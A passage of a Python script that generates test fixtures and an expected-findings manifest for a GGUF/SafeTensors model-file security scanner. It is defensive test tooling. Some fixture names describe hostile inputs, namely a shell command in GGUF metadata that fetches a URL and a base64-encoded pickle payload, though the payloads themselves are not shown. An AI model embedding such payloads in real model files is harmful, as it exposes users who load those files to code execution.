    Fixture("gguf/GGUF002_huge_string_length.gguf", gguf_huge_string, [("GGUF002", "MEDIUM")]),
    Fixture("gguf/GGUF002_array_count_overflow.gguf", gguf_array_overflow, [("GGUF002", "MEDIUM")]),
    Fixture("gguf/GGUF002_nested_array_depth.gguf", gguf_nested_depth, [("GGUF002", "MEDIUM")]),
    Fixture("gguf/GGUF003_duplicate_keys.gguf", gguf_duplicate_keys, [("GGUF003", "MEDIUM")]),
    Fixture("gguf/GGUF004_n_dims_over_4.gguf", gguf_n_dims, [("GGUF004", "MEDIUM")]),
    Fixture("gguf/GGUF004_unknown_ggml_type.gguf", gguf_unknown_type, [("GGUF004", "MEDIUM")]),
    Fixture("gguf/GGUF005_tensor_offset_beyond_eof.gguf", gguf_offset_beyond_eof, [("GGUF005", "HIGH")]),
    Fixture("gguf/GGUF005_overlapping_tensors.gguf", gguf_overlap, [("GGUF005", "HIGH")]),
    Fixture("gguf/GGUF006_misaligned_offset.gguf", gguf_misaligned, [("GGUF006", "MEDIUM")]),
    Fixture("gguf/GGUF007_metadata_shell_command.gguf", gguf_shell_command, [("GGUF007", "HIGH"), ("GGUF009", "LOW")],
            "the fetched URL is also reported (LOW)"),
    Fixture("gguf/GGUF008_metadata_base64_pickle.gguf", gguf_base64_pickle,
            [("GGUF008", "HIGH"), ("PKL001", "CRITICAL")], "the decoded pickle is analysed by the pickle rules"),
]

MANIFEST = "expected-formats.tsv"


def manifest() -> str:
    lines = [
        "# SafeTensors and GGUF fixtures. GENERATED by testdata/gen/generate_format_fixtures.py;",
        "# see testdata/FORMATS.md.",
        "# path<TAB>RULE<TAB>SEVERITY (a benign file: -<TAB>-, nothing above LOW). Every finding the",
        "# ST/GGUF rule functions report is listed, LOW ones included.",
    ]
    for f in FIXTURES:
        if f.note:
            lines.append(f"# {f.path}: {f.note}")
        if not f.expect:
            lines.append(f"{f.path}\t-\t-")
        for rule, sev in f.expect:
            lines.append(f"{f.path}\t{rule}\t{sev}")
    return "\n".join(lines) + "\n"


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--check", action="store_true", help="verify files on disk instead of writing")
    args = ap.parse_args()
    outputs = [(f.path, f.build()) for f in FIXTURES] + [(MANIFEST, manifest().encode())]
    bad = 0
    for rel, data in outputs:
        path = ROOT / rel
        if args.check:
            if not path.exists() or path.read_bytes() != data:
                print(f"differs: {rel}", file=sys.stderr)
                bad += 1
        else:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
    if args.check:
        print(f"{len(outputs) - bad}/{len(outputs)} files match")
        return 1 if bad else 0
    print(f"wrote {len(outputs)} files under {ROOT}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
